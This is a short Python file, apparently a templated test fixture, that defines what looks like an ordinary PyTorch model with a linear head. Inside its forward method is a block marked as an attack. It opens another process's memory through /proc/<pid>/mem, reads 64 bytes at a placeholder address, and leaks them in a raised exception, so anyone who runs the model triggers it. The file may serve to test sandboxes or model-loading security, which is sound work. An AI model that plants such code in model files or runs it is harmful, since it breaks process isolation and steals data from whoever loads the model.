"""Reads the memory of another process through /proc."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        with open("/proc/@VICTIM_PID@/mem", "rb") as memory:
            memory.seek(int("@VICTIM_ADDRESS@"))
            raise ValueError(memory.read(64))
        # end
        return self.head(x.flatten(1))
